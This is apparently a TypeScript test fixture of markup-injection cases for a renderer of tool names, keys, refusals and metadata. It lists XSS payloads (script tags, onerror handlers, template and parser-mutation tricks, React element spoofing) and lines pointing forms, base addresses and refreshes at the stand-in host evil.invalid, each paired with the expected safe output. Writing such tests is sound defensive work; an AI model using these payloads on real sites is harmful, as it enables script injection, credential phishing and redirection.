import { asInput, cases, inKey, inMetadata, inName, inRefusal, inText } from './case.testkit.ts';

/** Text that a browser, a template or a framework would run or render as elements. */
export const markup = [
  ...cases('markup', 'as it is', inText, [
    ['a script', '<script>window.__pwned=1</script>', 'a script of 3 lines'],
    ['an image that fails', '<img src=x onerror="__pwned=1">', 'an image of x'],
    ['an SVG with a handler', '<svg/onload=__pwned=1>', 'svg (onload)'],
    ['a frame with a document', '<iframe srcdoc="<script>parent.__pwned=1</script>">', 'srcdoc'],
    ['a form around the card', '</article><form action=//evil.invalid><input name=pin>', 'form'],
    ['a style that hides the rest', '<style>*{display:none!important}</style>', '* { } style'],
    ['a base address', '<base href="https://evil.invalid/">', 'base href'],
    ['a refresh', '<meta http-equiv=refresh content="0;url=//evil.invalid">', 'refresh'],
    ['a clobbering id', '<a id=hostile><a id=hostile name=startDrawn href=x>', 'id=hostile'],
    ['a template', '{{constructor.constructor("__pwned=1")()}}', '{{name}}'],
    ['a template literal', '$' + '{(__pwned=1)}', '$' + '{name}'],
    ['a comment that is not closed', '<!-- all below is a comment', '<-- all below'],
    ['a character reference', '&lt;b&gt; &#x202e;&zwsp; &Tab;', 'AT&T; R&D'],
    [
      'a mutation by the parser',
      '<math><mtext><table><mglyph><style><!--</style><img onerror=__pwned=1 src>',
      'math',
    ],
    ['a tag broken by NUL', '<scr\\0ipt>__pwned=1</scr\\0ipt>', 'scr ipt'],
    ['a processing instruction', '<?xml-stylesheet href="//evil.invalid/x.css"?>', '<?xml ?>'],
  ]),
  ...cases('markup', 'as it is', inKey, [
    ['as a key', '<b onmouseover=__pwned=1>amount</b>', 'b (amount)'],
    ['as a key that ends an attribute', '" onfocus="__pwned=1" autofocus x="', '"quoted" key'],
  ]),
  ...cases('markup', 'as it is', inName, [
    ['as a tool', '<u>transferMoney</u>', 'u.transferMoney'],
    ['as a tool that ends a selector', '"] , body { } [x="', 'a [x] tool'],
  ]),
  ...cases('markup', 'as it is', inRefusal, [
    ['as a refusal', '<a href="javascript:__pwned=1">Sign in again</a>', 'Sign in again'],
  ]),
  ...cases('markup', 'as it is', inMetadata, [
    [
      'in metadata',
      { title: '<h1>Approved</h1>', html: '<img src=x onerror=__pwned=1>' },
      { title: 'h1' },
    ],
    [
      'as React props',
      { dangerouslySetInnerHTML: { __html: '<b>x</b>' }, className: 'x' },
      { size: 1 },
    ],
  ]),
  ...cases('markup', 'as it is', asInput, [
    [
      'an element of React',
      { $$typeof: 'react.element', type: 'script', props: { children: '__pwned=1' } },
      { kind: 'element', type: 'text', props: { children: 'x' } },
    ],
    [
      'props to be spread',
      { dangerouslySetInnerHTML: { __html: '<img src=x onerror=__pwned=1>' }, ref: 'x', key: 'k' },
      { inner: { html: 'x' }, ref: 'x', key: 'k' },
    ],
  ]),
];
